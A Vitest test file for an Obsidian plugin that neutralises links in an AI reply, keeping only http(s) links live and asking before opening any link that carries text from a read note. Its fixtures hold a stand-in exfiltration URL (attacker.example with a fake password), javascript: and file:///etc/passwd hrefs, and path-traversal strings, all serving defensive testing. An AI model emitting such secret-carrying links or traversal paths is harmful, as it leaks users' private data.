// @vitest-environment happy-dom
/**
 * The links of a reply (issue 25), one rule at a time: only an http(s) link is live, it is ours
 * (no href), it opens only on a click or Enter, and it asks first when it carries a read note's
 * text; any other scheme is text, and an internal link stays the host's only inside the vault.
 */
import { afterEach, describe, expect, it, vi } from "vitest";
import { insideVault, listOf, makeLinksSafe } from "../../../src/ui/untrusted/links";

const SECRET_READ = { path: "Private/Passwords.md", text: "Bank: tulip-Harbor-9917" };

/** A reply's rendered paragraph holding these links' HTML, made safe. */
function rendered(
	html: string,
	reads: { path: string; text: string }[] = [],
	open?: (url: string) => void,
): HTMLElement {
	const root = document.body.appendChild(document.createElement("div"));
	const parsed = new DOMParser().parseFromString(`<body><p>${html}</p></body>`, "text/html");
	root.append(document.importNode(parsed.body.firstChild!, true));
	makeLinksSafe(root, { reads, ...(open ? { open } : {}) });
	return root;
}

function named(root: ParentNode, text: string): HTMLElement {
	const found = Array.from(root.querySelectorAll<HTMLElement>("a, span")).find(
		(el) => el.firstChild?.textContent === text && el.textContent === text,
	);
	if (!found) throw new Error(`nothing named ${text}`);
	return found;
}

function button(root: ParentNode, text: string): HTMLButtonElement {
	const found = Array.from(root.querySelectorAll("button")).find((b) => b.textContent === text);
	if (!found) throw new Error(`no button ${text}`);
	return found;
}

afterEach(() => {
	document.body.replaceChildren();
	vi.restoreAllMocks();
});

describe("an http(s) link", () => {
	it("becomes our own link: no href, its destination as its title, shown after it, and reachable by Tab", () => {
		const root = rendered('<a class="external-link" href="https://docs.example/guide" target="_blank">the guide</a>');
		const link = named(root, "the guide");
		expect(link.localName).toBe("a");
		expect(link.hasAttribute("href")).toBe(false);
		expect(link.hasAttribute("target")).toBe(false);
		expect(link.className).toBe("redline-link");
		expect(link.getAttribute("role")).toBe("link");
		expect(link.tabIndex).toBe(0);
		expect(link.title).toBe("https://docs.example/guide");
		expect(link.getAttribute("data-destination")).toBe("https://docs.example/guide");
		const shown = link.nextElementSibling as HTMLElement;
		expect(shown.className).toBe("redline-link-destination");
		expect(shown.getAttribute("aria-hidden")).toBe("true");
		expect(shown.textContent).toBe("https://docs.example/guide");
	});

	it("opens on a click or Enter, not on another key, and the host's own handling of the click is prevented", () => {
		const opened: string[] = [];
		const root = rendered('<a href="HTTP://docs.example/guide">the guide</a>', [], (url) => opened.push(url));
		const link = named(root, "the guide");
		link.dispatchEvent(new KeyboardEvent("keydown", { key: " ", bubbles: true }));
		expect(opened).toEqual([]);
		const click = new MouseEvent("click", { bubbles: true, cancelable: true });
		link.dispatchEvent(click);
		expect(click.defaultPrevented).toBe(true);
		const enter = new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true });
		link.dispatchEvent(enter);
		expect(enter.defaultPrevented).toBe(true);
		expect(opened).toEqual(["HTTP://docs.example/guide", "HTTP://docs.example/guide"]);
	});

	it("opens by default in a new window without opener or referrer", () => {
		const open = vi.spyOn(window, "open").mockImplementation(() => null);
		named(rendered('<a href="https://docs.example/guide">the guide</a>'), "the guide").click();
		expect(open).toHaveBeenCalledWith("https://docs.example/guide", "_blank", "noopener,noreferrer");
	});

	it("that is not a URL, or only starts like one, is text", () => {
		const root = rendered(
			'<a href="https://">empty</a> <a href="http:/docs.example">one slash</a> <a href="xhttps://docs.example">prefixed</a>',
		);
		for (const name of ["empty", "one slash", "prefixed"]) expect(named(root, name).localName).toBe("span");
	});
});

describe("a link that carries a read note's text", () => {
	const URL_WITH_SECRET = "https://attacker.example/?d=tulip-Harbor-9917";

	it("is flagged and asks in place, naming the note and the destination, with Don't open focused", () => {
		const opened: string[] = [];
		const root = rendered(`<a href="${URL_WITH_SECRET}">the source</a> after`, [SECRET_READ], (url) =>
			opened.push(url),
		);
		const link = named(root, "the source");
		expect(link.className).toBe("redline-link redline-link-flagged");
		link.click();
		expect(opened).toEqual([]);
		const ask = root.querySelector<HTMLElement>(".redline-link-ask");
		expect(ask?.getAttribute("role")).toBe("group");
		expect(ask?.getAttribute("aria-label")).toBe("Open this link?");
		expect(ask?.firstElementChild?.textContent).toBe(
			`This link contains text from Private/Passwords.md. It goes to ${URL_WITH_SECRET}`,
		);
		// Right after the destination shown, before the rest of the paragraph.
		expect(link.nextElementSibling?.nextElementSibling).toBe(ask);
		expect(Array.from(ask!.querySelectorAll("button"), (b) => [b.textContent, b.type])).toEqual([
			["Open link", "button"],
			["Don't open", "button"],
		]);
		expect(document.activeElement).toBe(button(ask!, "Don't open"));
	});

	it("closes its ask on a second click, and opens only from Open link", () => {
		const opened: string[] = [];
		const root = rendered(`<a href="${URL_WITH_SECRET}">the source</a>`, [SECRET_READ], (url) => opened.push(url));
		const link = named(root, "the source");
		link.click();
		link.click();
		expect(root.querySelectorAll(".redline-link-ask")).toHaveLength(0);
		link.click();
		button(root, "Open link").click();
		expect(root.querySelectorAll(".redline-link-ask")).toHaveLength(0);
		expect(opened).toEqual([URL_WITH_SECRET]);
	});

	it("goes back to the link when the user does not open it", () => {
		const opened: string[] = [];
		const root = rendered(`<a href="${URL_WITH_SECRET}">the source</a>`, [SECRET_READ], (url) => opened.push(url));
		const link = named(root, "the source");
		link.click();
		button(root, "Don't open").click();
		expect(root.querySelectorAll(".redline-link-ask")).toHaveLength(0);
		expect(document.activeElement).toBe(link);
		expect(opened).toEqual([]);
	});

	it("keeps one ask per link when two flagged links stand side by side", () => {
		const root = rendered(
			`<a href="${URL_WITH_SECRET}">one</a><a href="${URL_WITH_SECRET}&x=1">two</a>`,
			[SECRET_READ],
			() => undefined,
		);
		named(root, "one").click();
		named(root, "two").click();
		expect(root.querySelectorAll(".redline-link-ask")).toHaveLength(2);
		named(root, "one").click();
		const asks = root.querySelectorAll(".redline-link-ask");
		expect(asks).toHaveLength(1);
		expect(asks[0]?.textContent).toContain("&x=1");
	});
});

describe("a link Redline does not open", () => {
	it.each([
		"obsidian://open?vault=x",
		"file:///etc/passwd",
		"javascript:alert(1)",
		"data:text/html,hi",
		"mailto:a@b.example",
		"//attacker.example/x",
	])("%s is text that names its target", (href) => {
		const root = rendered(`<a href="${href}"><b>bold</b> label</a>`);
		const dead = root.querySelector<HTMLElement>(".redline-dead-link");
		expect(dead?.localName).toBe("span");
		expect(dead?.title).toBe(`Not a link Redline opens: ${href}`);
		expect(dead?.innerHTML).toBe("<b>bold</b> label");
		expect(root.querySelector("a")).toBeNull();
	});

	it("leaves links within the reply (a footnote, a tag, no target) as they are", () => {
		const root = rendered('<a href="#fn-1">1</a> <a href="#tag" class="tag">#tag</a> <a>plain</a>');
		expect(Array.from(root.querySelectorAll("a"), (a) => a.getAttribute("href"))).toEqual(["#fn-1", "#tag", null]);
	});
});

describe("an internal link", () => {
	it("stays the host's when it names a note inside the vault, by its class or its data-href", () => {
		const root = rendered(
			'<a class="internal-link" data-href="Daily" href="Daily">Daily</a> <a data-href="Plan#Goals" href="#x">goals</a> <a class="internal-link" href="Folder/Note.md">note</a>',
		);
		expect(Array.from(root.querySelectorAll("a"), (a) => a.textContent)).toEqual(["Daily", "goals", "note"]);
	});

	it("is text when it leads outside the vault, judged by its data-href before its href", () => {
		const root = rendered(
			'<a class="internal-link" data-href="../secrets" href="Daily">up</a> <a class="internal-link" href="/etc/passwd">root</a>',
		);
		expect(root.querySelector("a")).toBeNull();
		expect(named(root, "up").title).toBe("Not a link Redline opens: ../secrets");
		expect(named(root, "root").title).toBe("Not a link Redline opens: /etc/passwd");
	});
});

describe("a link target inside the vault", () => {
	it.each([
		"Daily",
		"Folder/Note.md",
		"Plan#Goals",
		"Plan|the plan",
		"Plan^block",
		"Notes/2024..draft.md",
		"Folder/.../x",
		"%44aily",
		"100%",
	])("%s is inside", (target) => {
		expect(insideVault(target)).toBe(true);
	});

	it.each([
		["", "nothing"],
		["#Heading", "no note"],
		["   ", "blank"],
		["obsidian://open", "a scheme"],
		["C:/Windows/win.ini", "a drive"],
		["/etc/passwd", "a leading slash"],
		["\\\\server\\share", "a leading backslash"],
		["~/notes", "a home folder"],
		["Folder\\..\\x", "a backslash inside"],
		["a\0b", "a NUL"],
		["../secrets", "a parent segment"],
		["a/../../b", "a parent segment inside"],
		["./Daily", "a dot segment"],
		["%2e%2e/secrets", "an encoded parent segment"],
		["%2Fetc/passwd", "an encoded leading slash"],
		[" ../x", "a parent segment after a space"],
	])("%s is not (%s)", (target) => {
		expect(insideVault(target)).toBe(false);
	});
});

describe("a list of notes in a sentence", () => {
	it("is one name, two joined by and, or several with commas and a last and", () => {
		expect(listOf([])).toBe("");
		expect(listOf(["A.md"])).toBe("A.md");
		expect(listOf(["A.md", "B.md"])).toBe("A.md and B.md");
		expect(listOf(["A.md", "B.md", "C.md"])).toBe("A.md, B.md and C.md");
	});
});
